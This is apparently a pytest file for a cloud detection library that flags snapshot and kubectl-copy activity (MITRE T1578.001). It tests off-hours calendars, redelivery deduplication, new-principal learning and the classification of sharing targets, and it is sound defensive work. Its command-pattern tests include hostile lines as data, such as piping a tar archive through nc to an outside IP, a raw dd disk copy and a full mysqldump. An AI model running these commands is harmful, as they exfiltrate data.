"""Focused tests of the T1578.001 detections where case files are awkward.

Calendars with per-account time zones and holidays, redelivery of a batch,
learning periods across batches, pattern and target classification tables.
"""

from __future__ import annotations

from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest

from adscore.detection import Context, Finding
from adscore.detections import (
    k8s_exec_copy,
    snapshot_burst,
    snapshot_new_principal,
    snapshot_off_hours,
    snapshot_restore_after_create,
    snapshot_shared_external,
)
from adscore.engine import Engine
from adscore.errors import ConfigError
from adscore.events import Event, Principal, Resource
from adscore.settings import load_settings
from adscore.state.base import BatchedState
from adscore.state.memory import MemoryStateStore
from adscore.testing import load_case, run_records

OURS = "111122223333"
CASES_DIR = Path(__file__).resolve().parents[2] / "cases"
MINE = (
    "container_snapshot",
    "k8s_exec_copy",
    "k8s_volume_snapshot",
    "snapshot_burst",
    "snapshot_new_principal",
    "snapshot_off_hours",
    "snapshot_restore_after_create",
    "snapshot_shared_external",
)


def _snapshot_event(at: datetime, *, account: str = OURS, eid: str = "e1", principal: str = "ops") -> Event:
    return Event(
        event_id=eid,
        cloud="aws",
        source="cloudtrail",
        time=at,
        operation="ec2:CreateSnapshot",
        service="ec2",
        principal=Principal(
            id=f"arn:aws:iam::{account}:role/{principal}", type="role", name=principal, account=account
        ),
        action="snapshot.create",
        account=account,
        resources=(Resource("volume", "vol-1", "source"), Resource("snapshot", f"snap-{eid}", "created")),
    )


def _off_hours(event: Event, settings: dict[str, Any]) -> list[Finding]:
    s = load_settings(None, **settings)
    ctx = Context(
        params=snapshot_off_hours.Params(),
        settings=s,
        state=BatchedState(MemoryStateStore()),
        now=event.time,
    )
    return list(snapshot_off_hours.evaluate(event, ctx))


PARIS = {
    "calendar": {
        "accounts": {
            OURS: {"timezone": "Europe/Paris", "start": "08:00", "end": "18:00", "holidays": ["2026-05-01"]}
        }
    }
}


@pytest.mark.parametrize(
    ("at", "off", "local"),
    [
        # winter (UTC+1): 07:30 UTC is 08:30 in Paris, inside; 17:30 UTC is 18:30, outside
        (datetime(2026, 3, 16, 7, 30, tzinfo=UTC), False, None),
        (datetime(2026, 3, 16, 17, 30, tzinfo=UTC), True, "Mon 2026-03-16 18:30 Europe/Paris"),
        # after the switch to summer time (UTC+2): 06:30 UTC is 08:30, inside
        (datetime(2026, 3, 30, 6, 30, tzinfo=UTC), False, None),
        (datetime(2026, 3, 30, 5, 30, tzinfo=UTC), True, "Mon 2026-03-30 07:30 Europe/Paris"),
        # 1 May is a holiday in the account's calendar: mid-morning still alerts
        (datetime(2026, 5, 1, 8, 0, tzinfo=UTC), True, "Fri 2026-05-01 10:00 Europe/Paris"),
        # 22:30 UTC on 30 April is already 1 May (the holiday) in Paris
        (datetime(2026, 4, 30, 22, 30, tzinfo=UTC), True, "Fri 2026-05-01 00:30 Europe/Paris"),
    ],
)
def test_off_hours_uses_the_accounts_time_zone_and_holidays(
    at: datetime, off: bool, local: str | None
) -> None:
    findings = _off_hours(_snapshot_event(at), PARIS)
    assert bool(findings) is off
    if local:
        assert local in findings[0].title
        assert findings[0].context["timezone"] == "Europe/Paris"
        assert findings[0].window_start == at.replace(minute=0, second=0, microsecond=0)


def test_off_hours_other_accounts_keep_the_default_calendar() -> None:
    # 17:30 UTC Monday: outside Paris hours for OURS, inside the UTC default for another account
    at = datetime(2026, 3, 16, 17, 30, tzinfo=UTC)
    assert _off_hours(_snapshot_event(at), PARIS)
    assert not _off_hours(_snapshot_event(at, account="444455556666"), PARIS)


def test_off_hours_holiday_flag_follows_the_local_date() -> None:
    findings = _off_hours(_snapshot_event(datetime(2026, 4, 30, 22, 30, tzinfo=UTC)), PARIS)
    assert findings[0].context["holiday"] is True
    assert findings[0].context["non_working_day"] is True
    assert date(2026, 5, 1).isoformat() in findings[0].context["local_time"]


# --------------------------------------------------------------------------- redelivery


def _ct(
    eid: str, minute: int, *, user: str = "mallory", hour: int = 2, day: int = 14, vol: str | None = None
) -> dict[str, Any]:
    return {
        "eventVersion": "1.09",
        "userIdentity": {
            "type": "IAMUser",
            "arn": f"arn:aws:iam::{OURS}:user/{user}",
            "accountId": OURS,
            "userName": user,
        },
        "eventTime": f"2026-03-{day:02d}T{hour:02d}:{minute:02d}:00Z",
        "eventSource": "ec2.amazonaws.com",
        "eventName": "CreateSnapshot",
        "awsRegion": "eu-west-1",
        "requestParameters": {"volumeId": vol or f"vol-{eid}"},
        "responseElements": {"snapshotId": f"snap-{eid}", "volumeId": vol or f"vol-{eid}"},
        "eventID": eid,
        "eventType": "AwsApiCall",
        "recipientAccountId": OURS,
    }


def test_redelivering_a_batch_three_times_alerts_once_with_the_same_counts() -> None:
    # GIVEN six snapshots by one user on a Saturday night (burst and off-hours both fire)
    engine = Engine(load_settings(None, state="memory://"), MemoryStateStore())
    batch = [(f"r{i}", _ct(f"e{i}", i * 2)) for i in range(6)]
    # WHEN the same batch is delivered three times
    reports = [engine.run(batch) for _ in range(3)]

    # THEN each delivery computes the same alerts and counts, and only the first sends them
    def summary(report: Any) -> dict[str, tuple[str, int]]:
        return {a.detection: (a.id, a.count) for a in report.alerts}

    first = summary(reports[0])
    assert first["snapshot.burst"][1] == 6
    assert first["snapshot.off_hours"][1] == 6
    assert all(summary(r) == first for r in reports[1:])
    assert sorted(a.detection for a in reports[0].sent) == sorted(first)
    assert [len(r.sent) for r in reports[1:]] == [0, 0]
    assert all(r.counts["deduplicated"] == len(first) for r in reports[1:])


def test_redelivery_split_across_batches_counts_each_snapshot_once() -> None:
    # GIVEN the first four snapshots, then a batch repeating them plus two new ones
    engine = Engine(load_settings(None, state="memory://"), MemoryStateStore())
    records = [(f"r{i}", _ct(f"e{i}", i * 2)) for i in range(6)]
    first = engine.run(records[:4])
    assert not [a for a in first.alerts if a.detection == "snapshot.burst"]
    # WHEN the overlap is delivered again
    second = engine.run(records[1:])
    # THEN the count is the six distinct snapshots, not nine records
    burst = [a for a in second.alerts if a.detection == "snapshot.burst"]
    assert [a.count for a in burst] == [6]


def test_burst_per_source_counts_snapshots_of_one_volume_by_several_principals() -> None:
    engine = Engine(load_settings(None, state="memory://"), MemoryStateStore())
    users = ["alice", "bob", "carol", "dave", "erin"]
    report = engine.run(
        [
            (f"r{i}", _ct(f"v{i}", i * 5, user=u, hour=10, day=16, vol="vol-shared"))
            for i, u in enumerate(users)
        ]
    )
    burst = [a for a in report.alerts if a.detection == "snapshot.burst"]
    assert [(a.entity, a.count) for a in burst] == [("source|volume:vol-shared", 5)]
    assert burst[0].context["principal_count"] == 1


# --------------------------------------------------------------------------- learning period


def test_new_principal_learns_for_seven_days_of_the_accounts_history() -> None:
    engine = Engine(load_settings(None, state="memory://"), MemoryStateStore())
    # day 1: ops starts the account's history; day 4: bob (learning: recorded, no alert)
    day1 = engine.run(
        [("a", _ct("n1", 0, user="ops", hour=10, day=1)), ("b", _ct("n2", 0, user="bob", hour=10, day=4))]
    )
    assert not [a for a in day1.alerts if a.detection == "snapshot.new_principal"]
    # day 9: bob again (known), mallory (new) -> one alert, for mallory only
    day9 = engine.run(
        [("c", _ct("n3", 0, user="bob", hour=10, day=9)), ("d", _ct("n4", 5, user="mallory", hour=10, day=9))]
    )
    new = [a for a in day9.alerts if a.detection == "snapshot.new_principal"]
    assert [a.principal["id"] for a in new] == [f"arn:aws:iam::{OURS}:user/mallory"]
    assert "since 2026-03-01" in new[0].summary
    # a late redelivery of the day-4 record does not turn bob into a new principal
    late = engine.run([("b", _ct("n2", 0, user="bob", hour=10, day=4))])
    assert not [a for a in late.alerts if a.detection == "snapshot.new_principal"]
    # and mallory's redelivered record is answered as before (same alert id, deduplicated)
    again = engine.run([("d", _ct("n4", 5, user="mallory", hour=10, day=9))])
    assert [a.id for a in again.alerts if a.detection == "snapshot.new_principal"] == [new[0].id]
    assert not again.sent


def test_new_principal_learning_is_per_account() -> None:
    engine = Engine(load_settings(None, state="memory://"), MemoryStateStore())
    engine.run([("a", _ct("p1", 0, user="ops", hour=10, day=1))])
    other = dict(_ct("p2", 0, user="mallory", hour=10, day=10))
    other["recipientAccountId"] = "444455556666"
    report = engine.run([("b", other)])
    # the other account's history starts now: still learning
    assert not [a for a in report.alerts if a.detection == "snapshot.new_principal"]


# --------------------------------------------------------------------------- tables


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("all", "public"),
        ("allUsers", "public"),
        ("allAuthenticatedUsers", "public"),
        ("999988887777", "external"),
        ("444455556666", None),  # in org_accounts
        ("123456789012", None),  # in trusted_accounts
        ("arn:aws:organizations::444455556666:organization/o-abc", None),
        ("arn:aws:organizations::999988887777:ou/o-abc/ou-xyz", "external"),
        ("user:bob@example.com", None),
        ("user:eve@evil.example", "external"),
        ("domain:evil.example", "external"),
        ("group:ops@corp.example.com", None),  # subdomain of an org domain
        ("serviceAccount:x@example-prod.iam.gserviceaccount.com", None),
        ("serviceAccount:x@attacker-proj.iam.gserviceaccount.com", "external"),
        ("deleted:user:old@evil.example?uid=1", None),
        ("sas", None),
    ],
)
def test_shared_external_classifies_targets(target: str, expected: str | None) -> None:
    settings = load_settings(None, org_accounts=[OURS, "444455556666", "example-prod"])
    params = snapshot_shared_external.Params(trusted_accounts=("123456789012",), org_domains=("example.com",))
    ctx = Context(
        params=params, settings=settings, state=BatchedState(MemoryStateStore()), now=datetime.now(UTC)
    )
    event = _snapshot_event(datetime(2026, 3, 14, tzinfo=UTC))
    known = frozenset(a.lower() for a in (*settings.org_accounts, OURS))
    assert snapshot_shared_external._classify(target, event, ctx, known) == expected


@pytest.mark.parametrize(
    ("a", "b"),
    [
        (
            "/subscriptions/s/resourceGroups/RG/providers/Microsoft.Compute/snapshots/Snap1",
            "/subscriptions/s/resourcegroups/rg/providers/microsoft.compute/snapshots/snap1",
        ),
        (
            "projects/p/global/snapshots/s1",
            "https://www.googleapis.com/compute/v1/projects/p/global/snapshots/s1",
        ),
        ("projects/p/global/snapshots/s1", "global/snapshots/s1"),
        ("arn:aws:rds:eu-west-1:111122223333:snapshot:db-snap", "db-snap"),
    ],
)
def test_restore_snapshot_keys_match_across_log_forms(a: str, b: str) -> None:
    assert snapshot_restore_after_create.snapshot_key("x", a) == snapshot_restore_after_create.snapshot_key(
        "x", b
    )


def test_restore_snapshot_keys_differ_by_cloud_and_name() -> None:
    key = snapshot_restore_after_create.snapshot_key
    assert key("aws", "snap-1") != key("gcp", "snap-1")
    assert key("aws", "snap-1") != key("aws", "snap-2")


@pytest.mark.parametrize(
    ("argv", "kind"),
    [
        (("sh", "-c", "cp -R /app/data /snapshot"), "copy"),
        (("tar", "cf", "-", "/app/secrets"), "from"),
        (("tar", "--no-same-permissions", "--no-same-owner", "-xmf", "-", "-C", "/tmp"), "to"),
        (("/usr/bin/rsync", "-a", "/data", "backup@10.0.0.9:/srv/"), "copy"),
        (("dd", "if=/dev/nvme1n1", "of=/dev/shm/disk.img", "bs=4M"), "copy"),
        (("mysqldump", "--all-databases"), "dump"),
        (("sh", "-c", "tar czf - /var/lib/data | nc 203.0.113.9 443"), "from"),
        (("cp", "/etc/hosts", "/tmp/hosts"), None),  # not recursive
        (("ls", "-la", "/backup"), None),
        (("cat", "/etc/passwd"), None),
        (("bash",), None),
    ],
)
def test_exec_copy_patterns(argv: tuple[str, ...], kind: str | None) -> None:
    p = k8s_exec_copy.Params()
    text = k8s_exec_copy.command_text(argv)
    found = None
    if k8s_exec_copy._first(p.kubectl_cp_from_pod, text):
        found = "from"
    elif k8s_exec_copy._first(p.kubectl_cp_to_pod, text):
        found = "to"
    elif k8s_exec_copy._first(p.dump_commands, text):
        found = "dump"
    elif k8s_exec_copy._first(p.copy_commands, text) and k8s_exec_copy._first(p.destination_paths, text):
        found = "copy"
    assert found == kind


def test_exec_copy_command_text_is_capped() -> None:
    assert len(k8s_exec_copy.command_text(("x" * 10_000, "y" * 10_000))) == 4096


def test_invalid_pattern_fails_at_start_naming_the_setting() -> None:
    settings = load_settings(None, detections={"k8s.exec_copy": {"copy_commands": ["(unclosed"]}})
    with pytest.raises(ConfigError) as exc:
        Engine(settings, MemoryStateStore())
    assert "detections.k8s.exec_copy.copy_commands" in str(exc.value)


def test_thresholds_come_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ADSCORE_DETECTIONS__SNAPSHOT_BURST__THRESHOLD", "8")
    engine = Engine(load_settings(None), MemoryStateStore())
    six = engine.run([(f"r{i}", _ct(f"t{i}", i, hour=10, day=16)) for i in range(6)])
    assert not [a for a in six.alerts if a.detection == "snapshot.burst"]
    eight = engine.run([(f"r{i}", _ct(f"t{i}", i, hour=10, day=16)) for i in range(8)])
    assert [a.count for a in eight.alerts if a.detection == "snapshot.burst"] == [8]
    assert isinstance(snapshot_burst.Params.model_validate({"threshold": "8"}).threshold, int)


def test_new_principal_params_validate() -> None:
    assert snapshot_new_principal.Params().learning_days == 7.0
    with pytest.raises(ValueError):
        snapshot_new_principal.Params.model_validate({"learning_days": -1})


# --------------------------------------------------------------------------- the cases themselves


def _settings_cases() -> list[Path]:
    out = []
    for module in MINE:
        for path in sorted((CASES_DIR / module).glob("quiet_*.yaml")):
            case = load_case(path)
            # a case whose settings only widen what is internal (org accounts) cannot fire without them
            if case.get("settings") and "org_accounts" not in case["settings"]:
                out.append(path)
    return out


@pytest.mark.parametrize("path", _settings_cases(), ids=lambda p: f"{p.parent.name}/{p.stem}")
def test_quiet_cases_are_quiet_because_of_their_settings(path: Path) -> None:
    # A quiet case that needs settings (allowlist, window, threshold) must alert without them, and
    # without the shipped default suppressions that may cover the same false positive: otherwise it
    # would prove nothing about the false positive it is named after.
    case = load_case(path)
    detection = path.parent.name.replace("_", ".", 1)
    report = run_records(list(case["records"]), {"inherit_default_suppressions": False, "suppressions": []})
    assert [a for a in report.alerts if a.detection == detection], (
        f"{path.name} is quiet even without its settings"
    )


# --------------------------------------------------------------------------- the ADS, covered


def _metas() -> list[Any]:
    from importlib import import_module

    return [import_module(f"adscore.detections.{m}").DETECTION.meta for m in MINE]


@pytest.mark.parametrize("module", MINE)
def test_each_response_carries_the_ads_steps(module: str) -> None:
    from importlib import import_module

    text = " ".join(import_module(f"adscore.detections.{module}").DETECTION.meta.response).lower()
    for step in ("isolat", "forensic", "access control"):
        assert step in text, f"{module}: response lacks the ADS step {step!r}"
    assert "ir plan" in text or "incident response plan" in text, f"{module}: response lacks the IR plan step"
    assert "`" in text, f"{module}: response has no concrete command"


def test_the_ads_strategy_and_false_positives_are_covered() -> None:
    metas = _metas()
    assert all(m.technique == "T1578.001" and m.tactic == "Defense Evasion" for m in metas)
    strategy = " ".join(m.strategy for m in metas).lower()
    for pattern in (
        "single container",
        "off-hours",
        "file system states",
        "container lifecycle",
        "orchestrator",
    ):
        assert pattern in strategy, pattern
    fps = " ".join(f for m in metas for f in m.false_positives).lower()
    for fp in (
        "backup operations by it teams",
        "automated testing",
        "disaster recovery",
        "high-availability",
    ):
        assert fp in fps, fp
    blind = " ".join(b for m in metas for b in m.blind_spots).lower()
    for spot in ("not centrally managed", "network traffic", "no user"):
        assert spot in blind, spot
    validation = " ".join(v for m in metas for v in m.validation)
    for step in ("cp -R /app/data /snapshot", "docker commit", "docker save"):
        assert step in validation, step


# --------------------------------------------------------------------------- real samples (not written here)

SAMPLES = Path(__file__).resolve().parents[3] / ".." / "shared" / "samples" / "panther" / "snapshot"


@pytest.mark.parametrize(
    ("rule", "test_name", "detection", "severity"),
    [
        (
            "AWS.CloudTrail.SnapshotMadePublic",
            "Snapshot Made Publicly Accessible",
            "snapshot.shared_external",
            "critical",
        ),
        (
            "AWS.CloudTrail.AMIModifiedForPublicAccess",
            "AMI Made Public",
            "snapshot.shared_external",
            "critical",
        ),
        (
            "AWS.RDS.SnapshotShared",
            "Snapshot shared with another account",
            "snapshot.shared_external",
            "high",
        ),
        ("AWS.RDS.SnapshotExport", "RDS Snapshot Export Started", "snapshot.shared_external", "high"),
        (
            "Azure.MonitorActivity.Compute.DiskSASURIGenerated",
            "SAS URI Generated for Disk",
            "snapshot.shared_external",
            "high",
        ),
        (
            "Kubernetes.Kubectl.CP.Operation",
            "EKS kubectl cp from pod (requestURI format)",
            "k8s.exec_copy",
            "high",
        ),
        ("Kubernetes.Kubectl.CP.Operation", "GKE kubectl cp from pod", "k8s.exec_copy", "high"),
        (
            "AWS.CloudTrail.SnapshotMadePublic",
            "Snapshot Not Made Publicly Accessible",
            "snapshot.shared_external",
            None,
        ),
        ("AWS.RDS.SnapshotExport", "RDS Snapshot Export Failed", "snapshot.shared_external", None),
        ("Kubernetes.Kubectl.CP.Operation", "EKS regular exec without tar", "k8s.exec_copy", None),
        ("Kubernetes.Kubectl.CP.Operation", "EKS failed request (excluded)", "k8s.exec_copy", None),
    ],
)
def test_real_samples(rule: str, test_name: str, detection: str, severity: str | None) -> None:
    # GIVEN a published rule's test record (its labels are that rule's meaning; these rows are chosen
    # where ours agrees), WHEN it is run alone, THEN our detection alerts with the severity, or stays quiet.
    import copy
    import json

    path = SAMPLES / f"{rule}.json"
    if not path.is_file():
        pytest.skip("shared samples not present")
    tests = {t["Name"]: t["Log"] for t in json.loads(path.read_text(encoding="utf-8"))["Tests"]}
    record = copy.deepcopy(tests[test_name])
    if "protoPayload" in record:  # the sample records carry no time of their own
        record.setdefault("timestamp", "2026-03-16T10:00:00Z")
    elif record.get("kind") == "Event":
        record.setdefault("requestReceivedTimestamp", "2026-03-16T10:00:00Z")
    report = run_records([record], {"org_accounts": ["123456789012"]})
    assert not report.errors, report.errors
    found = [a.severity for a in report.alerts if a.detection == detection]
    assert found == ([severity] if severity else [])


@pytest.mark.parametrize("module", MINE)
def test_a_fire_case_for_every_cloud_a_detection_claims(module: str) -> None:
    from importlib import import_module

    from adscore.sources import parse_record

    det = import_module(f"adscore.detections.{module}").DETECTION
    covered: set[str] = set()
    for path in (CASES_DIR / module).glob("fire_*.yaml"):
        for i, record in enumerate(load_case(path)["records"]):
            for item in parse_record(record, f"{path.name}[{i}]"):
                if isinstance(item, Event) and item.action in det.actions:
                    covered.add(item.cloud)
    assert set(det.clouds) <= covered, f"{module}: no fire case for {sorted(set(det.clouds) - covered)}"
